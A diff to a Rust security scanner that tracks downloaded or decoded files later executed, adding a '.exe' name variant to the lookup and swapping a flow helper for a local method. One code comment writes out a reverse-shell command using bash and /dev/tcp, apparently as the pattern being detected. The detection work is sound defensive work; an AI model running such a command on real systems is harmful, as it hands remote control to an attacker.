@@ -3,7 +3,6 @@
 use super::call::Call;
 use crate::scan::finding::Severity;
 use crate::scan::findings::Match;
-use crate::scan::flow::{self};
 use crate::scan::kind::{Language, of_interpreter};
 use crate::scan::rules;
 use crate::scan::shell_flow::{Taint, Walk, key};
@@ -22,8 +21,12 @@ impl Walk<'_, '_, '_> {
         let shown = format!("`{name}`");
         let Some(language) = of_interpreter(&name) else {
             // A path that was downloaded or decoded before, and is now started.
-            let taint = self.memory.files.get(&key(&call.name)).cloned().unwrap_or_default();
-            let found = flow::to_interpreter(&taint, "the system", self.passage.context);
+            let taint = [call.name.clone(), format!("{}.exe", call.name)]
+                .iter()
+                .find_map(|name| self.memory.files.get(&key(name)))
+                .cloned()
+                .unwrap_or_default();
+            let found = self.runs(&taint, "the system");
             self.report_some(at, found);
             return;
         };
@@ -119,7 +122,7 @@ impl Walk<'_, '_, '_> {
                 }
             }
         }
-        let found = flow::to_interpreter(&taint, &shown, self.passage.context);
+        let found = self.runs(&taint, &shown);
         self.report_some(at, found);
         // bash -i >& /dev/tcp/host/port 0>&1
         if language == Language::Shell {
